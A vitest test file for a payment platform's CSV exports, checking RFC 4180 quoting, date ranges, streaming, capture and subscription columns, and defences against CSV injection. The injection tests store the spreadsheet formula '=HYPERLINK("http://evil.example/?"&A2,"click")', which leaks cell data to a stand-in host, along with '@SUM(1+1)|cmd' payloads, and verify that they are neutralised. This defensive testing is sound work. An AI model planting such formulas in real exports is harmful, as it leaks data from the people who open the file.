import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createExportsService } from '../../src/modules/exports/index.js';
import { csvCell, csvField } from '../../src/modules/exports/csv.js';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';
import { authorize, captureOnChain } from '../helpers/authorizations.js';
import { fakeChain, merchant, order } from '../helpers/factories.js';
import { createHarness, type Harness } from '../helpers/harness.js';
import { completeRefund, pay, setChainTime, settle } from './balance-fixtures.js';

/** An independent RFC 4180 reader: records end in CRLF, quoted fields may hold , " CR LF with "" for a quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"' && field === '') { quoted = true; i++; continue; }
    if (c === ',') { row.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    expect(c, `bare ${JSON.stringify(c)} at ${i}`).not.toMatch(/[\r\n"]/);
    field += c; i++;
  }
  expect(field, 'the last record ends with CRLF').toBe('');
  expect(row).toEqual([]);
  return rows;
}
const records = (text: string) => {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]!])));
};

/** "1.19081" → 1190810n, without floats. */
const units = (s: string) => { const [w, f = ''] = s.split('.'); return BigInt(w!) * 1_000_000n + BigInt(f.padEnd(6, '0')); };

const T0 = new Date('2026-04-10T08:00:00Z');
const at = (ms: number) => new Date(T0.getTime() + ms);
const H = 3_600_000;
const NASTY_NO = 'inv, "quoted" #1';
const NASTY_META = { note: 'line one\r\nline two, with "quotes"', n: 1 };

let h: Harness;
let p: Awaited<ReturnType<Harness['platform']>>;
let other: Awaited<ReturnType<Harness['platform']>>;
const ids: Record<string, any> = {};

beforeAll(async () => {
  const chain = fakeChain();
  h = await createHarness(chain);
  p = await h.platform({ platform_fee_bps: 250 });
  other = await h.platform();
  const m = await merchant(h, p.secretKey, { reserve_bps: 1000 });
  ids.a = await order(h, p.secretKey, m.external_id, { amount: '12.34', order_no: NASTY_NO, metadata: NASTY_META });
  ids.b = await order(h, p.secretKey, m.external_id, { amount: '7.00' });
  ids.c = await order(h, p.secretKey, m.external_id, { amount: '1.50' });
  await order(h, other.secretKey, (await merchant(h, other.secretKey)).external_id);
  await pay(h, ids.a, T0);
  await pay(h, ids.b, at(H));
  const r = await h.request('POST', '/v1/refunds', { key: p.secretKey, body: { order_id: ids.a.id, amount: '2.00', reason: 'torn, "badly"\nsee photo' } });
  expect(r.status).toBe(201);
  ids.refund = r.body;
  await completeRefund(h, r.body, 1_109_000n, at(2 * H));
  ids.batch = await settle(h, p.platformId, [{ orderId: ids.b.id, amount: 619_500n, released: true }], at(8 * 24 * H));
  await setChainTime(h, at(8 * 24 * H));
}, 60_000);
afterAll(() => h?.close());

const csv = (path: string, key = p.secretKey) => h.request('GET', path, { key });

describe('CSV exports', () => {
  it('quotes commas, quotes and newlines (RFC 4180) and gives orders exactly as the API does', async () => {
    const res = await csv('/v1/exports/orders.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="orders.csv"');
    expect(res.text).toContain('"inv, ""quoted"" #1"');
    const rows = records(res.text);
    const api = (await h.request('GET', '/v1/orders?limit=100', { key: p.secretKey })).body.data as any[];
    expect(rows.map((r) => r.id)).toEqual(api.map((o) => o.id)); // newest first, only this platform's
    for (const [row, o] of rows.map((r, i) => [r, api[i]] as const)) {
      expect(row).toMatchObject({ order_no: o.order_no, amount: o.amount, state: o.state, merchant_id: o.merchant_id, tx_hash: o.tx_hash ?? '', created_at: o.created_at, confirmed_at: o.confirmed_at ?? '' });
      expect(JSON.parse(row.metadata!)).toEqual(o.metadata);
      expect(units(row.reserve_hold!)).toBe(BigInt(o.computed_split.reserve_hold));
    }
    expect(rows.find((r) => r.id === ids.a.id)).toMatchObject({ order_no: NASTY_NO, amount: '12.34', service_fee: '0.1234', platform_fee: '0.3085', reserve_hold: '1.19081', refunded_amount: '2.00' });
  });

  it('gives the ledger row for row as GET /v1/balance_transactions, and refunds and settlements', async () => {
    const ledger = records((await csv('/v1/exports/balance_transactions.csv')).text);
    const api = (await h.request('GET', '/v1/balance_transactions?limit=100', { key: p.secretKey })).body.data as any[];
    expect(ledger).toEqual(api.map((t) => Object.fromEntries(Object.keys(ledger[0]!).map((k) => [k, t[k] === null ? '' : String(t[k])]))));
    expect(ledger.length).toBe(4 + 4 + 2 + 1);

    const refunds = records((await csv('/v1/exports/refunds.csv')).text);
    expect(refunds).toEqual([expect.objectContaining({ id: ids.refund.id, amount: '2.00', state: 'completed', reserve_portion: '1.109', funding_required: '0.891', reason: 'torn, "badly"\nsee photo' })]);
    const settlements = records((await csv('/v1/exports/settlements.csv')).text);
    expect(settlements).toEqual([expect.objectContaining({ settlement_id: ids.batch.id, state: 'confirmed', order_id: ids.b.id, amount: '0.6195', released_amount: '0.6195', item_state: 'released', tx_hash: ids.batch.hash })]);
  });

  it('limits each export to [from, to) and refuses an inverted range or unknown parameter with 422 before any byte', async () => {
    const q = `from=${encodeURIComponent(at(30 * 60_000).toISOString())}&to=${encodeURIComponent(at(3 * H).toISOString())}`;
    const ledger = records((await csv(`/v1/exports/balance_transactions.csv?${q}`)).text);
    expect(new Set(ledger.map((r) => r.type))).toEqual(new Set(['payment_service_fee', 'payment_platform_fee', 'payment_merchant_available', 'payment_reserve_hold', 'refund_from_reserve', 'refund_from_submitter']));
    expect(ledger.every((r) => r.block_time! >= at(30 * 60_000).toISOString() && r.block_time! < at(3 * H).toISOString())).toBe(true);
    const future = records((await csv(`/v1/exports/orders.csv?from=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}`)).text);
    expect(future).toEqual([]);
    for (const [path, param] of [['/v1/exports/orders.csv?from=2026-05-02T00:00:00Z&to=2026-05-01T00:00:00Z', 'to'], ['/v1/exports/refunds.csv?since=x', 'since'], ['/v1/exports/settlements.csv?to=soon', 'to']] as const) {
      const res = await csv(path);
      expect(res.status, path).toBe(422);
      expect(res.body.error).toMatchObject({ code: 'validation_failed', param });
    }
    expect((await h.request('GET', '/v1/exports/orders.csv')).status).toBe(401);
  });

  it('streams page by page: tiny pages give the same bytes as one big page', async () => {
    const read = async (pageSize: number, kind: 'orders' | 'balance_transactions' | 'refunds' | 'settlements') =>
      new Response(createExportsService({ db: h.db, balance: h.services.balance, pageSize }).stream(kind, p.platformId, {})).text();
    for (const kind of ['orders', 'balance_transactions', 'refunds', 'settlements'] as const) {
      expect(await read(1, kind), kind).toBe(await read(1000, kind));
      expect(await read(2, kind), kind).toBe(await read(1000, kind));
    }
  });

  it('writes fields per RFC 4180', () => {
    expect(['plain', 'a,b', 'say "hi"', 'x\ny', 'x\ry', '', null, 12, { a: 'b,"c"' }].map(csvField))
      .toEqual(['plain', '"a,b"', '"say ""hi"""', '"x\ny"', '"x\ry"', '', '', '12', '"{""a"":""b,\\""c\\""""}"']);
  });
});

describe('charge later and subscription columns', () => {
  const CL_COLUMNS = ['capture_method', 'capture_before', 'amount_authorized', 'amount_captured', 'subscription_id', 'subscription_period'];
  const pick = (r: Record<string, string>) => Object.fromEntries(CL_COLUMNS.map((k) => [k, r[k]]));

  it('appends capture_method, capture_before, amount_authorized, amount_captured, subscription_id, subscription_period as the API gives them', async () => {
    const header = parseCsv((await csv('/v1/exports/orders.csv')).text)[0]!;
    expect(header.slice(-CL_COLUMNS.length)).toEqual(CL_COLUMNS);
    expect(header.slice(0, 3)).toEqual(['id', 'order_no', 'merchant_id']); // existing columns keep their positions

    const cl = await h.platform({ platform_fee_bps: 500 });
    const m = await merchant(h, cl.secretKey, { reserve_bps: 1000 });
    const captured = await order(h, cl.secretKey, m.external_id, { amount: '25.00', capture_method: 'manual', capture_within_seconds: 86_400 });
    const held = await order(h, cl.secretKey, m.external_id, { amount: '3.333333', capture_method: 'manual' });
    const unpaid = await order(h, cl.secretKey, m.external_id, { amount: '7.00' });
    const paid = await order(h, cl.secretKey, m.external_id, { amount: '8.10' });
    await authorize(h, captured);
    expect((await h.request('POST', `/v1/orders/${captured.id}/capture`, { key: cl.secretKey, body: { amount: '10.10' } })).status).toBe(202);
    await captureOnChain(h, captured, 10_100_000n);
    await authorize(h, held);
    await pay(h, paid, at(5 * H));
    const sub = await subscriptionCharge(cl.secretKey, m.external_id);

    const rows = records((await csv('/v1/exports/orders.csv', cl.secretKey)).text);
    const api = (await h.request('GET', '/v1/orders?limit=100', { key: cl.secretKey })).body.data as any[];
    expect(rows.map((r) => r.id)).toEqual(api.map((o) => o.id));
    const row = (id: string) => pick(rows.find((r) => r.id === id)!);
    const apiOf = (id: string) => api.find((o) => o.id === id)!;

    // Authorized 25.00, captured 10.10 in part: money as exact decimal strings, capture_before as the API's instant.
    expect(apiOf(captured.id)).toMatchObject({ state: 'confirmed', amount_authorized: '25.00', amount_captured: '10.10' });
    expect(row(captured.id)).toEqual({ capture_method: 'manual', capture_before: apiOf(captured.id).capture_before, amount_authorized: '25.00', amount_captured: '10.10', subscription_id: '', subscription_period: '' });
    // capture_before = the signed deadline (whole seconds) + capture_within_seconds.
    expect(Date.parse(row(captured.id).capture_before!)).toBe(Math.floor(Date.parse(captured.deadline_at) / 1000) * 1000 + 86_400_000);
    expect(row(held.id)).toEqual({ capture_method: 'manual', capture_before: held.capture_before, amount_authorized: '3.333333', amount_captured: '0.00', subscription_id: '', subscription_period: '' });
    // Normal orders: automatic, no capture deadline; amounts as the API (0.00 until paid, the amount once confirmed).
    expect(row(unpaid.id)).toEqual({ capture_method: 'automatic', capture_before: '', amount_authorized: '0.00', amount_captured: '0.00', subscription_id: '', subscription_period: '' });
    expect(row(paid.id)).toEqual({ capture_method: 'automatic', capture_before: '', amount_authorized: '8.10', amount_captured: '8.10', subscription_id: '', subscription_period: '' });
    // A subscription's first charge: its subscription and period 0.
    expect(row(sub.orderId)).toEqual({ capture_method: 'automatic', capture_before: '', amount_authorized: '0.00', amount_captured: '0.00', subscription_id: sub.id, subscription_period: '0' });
    expect(apiOf(sub.orderId).subscription_id).toBe(sub.id);
    for (const o of api) expect(pick(rows.find((r) => r.id === o.id)!)).toMatchObject({ capture_method: o.capture_method, amount_authorized: o.amount_authorized, amount_captured: o.amount_captured, capture_before: o.capture_before ?? '' });
  });

  /** A subscription authorized by a payer's signature: its first charge is an order (subscription_period 0). */
  async function subscriptionCharge(key: string, merchantId: string) {
    const created = await h.request('POST', '/v1/subscriptions', { key, body: { merchant_id: merchantId, chain_id: 84532, token: 'USDC', amount: '9.99', interval: 'month' } });
    expect(created.status, created.text).toBe(201);
    const token = (created.body.url as string).split('/subscribe/')[1]!;
    const t = (await h.request('GET', `/v1/subscriptions/authorize/${token}`)).body.typed_data;
    const account = privateKeyToAccount(generatePrivateKey());
    const message = { ...t.message, payer: account.address, amount: BigInt(t.message.amount), salt: BigInt(t.message.salt) };
    const signature = await account.signTypedData({ domain: t.domain, types: t.types, primaryType: 'SpendPermission', message });
    const res = await h.request('POST', `/v1/subscriptions/authorize/${token}`, { body: { payer: account.address, start: t.message.start, signature } });
    expect(res.status, res.text).toBe(200);
    const o = await h.db.selectFrom('orders').select('id').where('subscription_id', '=', created.body.id).executeTakeFirstOrThrow();
    return { id: created.body.id as string, orderId: o.id };
  }
});

describe('CSV injection', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")';

  it('prefixes with \' every text cell a spreadsheet would run as a formula, and leaves amounts, counts and times as they are', async () => {
    const evil = await h.platform();
    const m = await merchant(h, evil.secretKey, { external_id: HYPERLINK, name: HYPERLINK, reserve_bps: 1000 });
    const o = await order(h, evil.secretKey, m.external_id, { amount: '12.34', order_no: '+1+1', metadata: { note: '@SUM(1+1)' } });
    const o2 = await order(h, evil.secretKey, m.external_id, { amount: '5.00', order_no: '-2+3' });
    await pay(h, o, at(3 * H));
    await pay(h, o2, at(3 * H));
    const refund = await h.request('POST', '/v1/refunds', { key: evil.secretKey, body: { order_id: o.id, amount: '1.50', reason: '@SUM(1+1)|cmd' } });
    expect(refund.status).toBe(201);
    await completeRefund(h, refund.body, 1_109_000n, at(4 * H));
    const batch = await settle(h, evil.platformId, [{ orderId: o2.id, amount: 423_000n, released: true }], at(9 * 24 * H));

    const orders = records((await csv('/v1/exports/orders.csv', evil.secretKey)).text);
    const row = orders.find((r) => r.id === o.id)!;
    expect(row).toMatchObject({ order_no: "'+1+1", merchant_id: `'${HYPERLINK}`, amount: '12.34', chain_id: '84532', service_fee: '0.1234', refunded_amount: '1.50', created_at: o.created_at });
    expect(JSON.parse(row.metadata!)).toEqual({ note: '@SUM(1+1)' }); // a JSON object starts with {, never a formula
    expect(orders.find((r) => r.id === o2.id)).toMatchObject({ order_no: "'-2+3", amount: '5.00' });
    // The raw bytes too: the formula is inside a quoted field that starts with the quote mark.
    expect((await csv('/v1/exports/orders.csv', evil.secretKey)).text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`);

    const refunds = records((await csv('/v1/exports/refunds.csv', evil.secretKey)).text);
    expect(refunds).toEqual([expect.objectContaining({ id: refund.body.id, reason: "'@SUM(1+1)|cmd", amount: '1.50', reserve_portion: '1.109', funding_required: '0.391' })]);
    const settlements = records((await csv('/v1/exports/settlements.csv', evil.secretKey)).text);
    expect(settlements).toEqual([expect.objectContaining({ settlement_id: batch.id, order_no: "'-2+3", merchant_id: `'${HYPERLINK}`, amount: '0.423', released_amount: '0.423', chain_id: '84532' })]);
    const ledger = records((await csv('/v1/exports/balance_transactions.csv', evil.secretKey)).text);
    expect(ledger.length).toBeGreaterThan(0);
    for (const t of ledger) {
      expect(t.merchant_id).toBe(`'${HYPERLINK}`);
      expect(t.amount).toMatch(/^\d+\.\d+$/);
      expect(t.log_index).toMatch(/^\d+$/);
      expect(t.block_time).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/);
    }
  });

  it('escapes text cells starting with = + - @ tab or CR, never amounts, integers or times that look like them', () => {
    expect(['=1+1', '+1', '-1+2', '@SUM(A1)', '\tx', '\r=1', 'a=b', ' =1', '', '-1.50'].map((v) => csvCell(v, 'text')))
      .toEqual(["'=1+1", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", '"\'\r=1"', 'a=b', ' =1', '', "'-1.50"]);
    expect(csvCell('-1.50', 'amount')).toBe('-1.50');
    expect(csvCell('12.34', 'amount')).toBe('12.34');
    expect(csvCell(-3, 'integer')).toBe('-3');
    expect(csvCell('2026-04-10T08:00:00.000Z', 'time')).toBe('2026-04-10T08:00:00.000Z');
    expect(csvCell(null, 'amount')).toBe('');
    // A value that is not what its column says is text: a column declared numeric by mistake cannot carry a formula.
    expect(['=1+1', '-1+2', '+1', '@1'].map((v) => csvCell(v, 'amount'))).toEqual(["'=1+1", "'-1+2", "'+1", "'@1"]);
    expect(csvCell('-1 ', 'integer')).toBe("'-1 ");
    expect(csvCell({ a: '=1' }, 'text')).toBe('"{""a"":""=1""}"');
  });
});
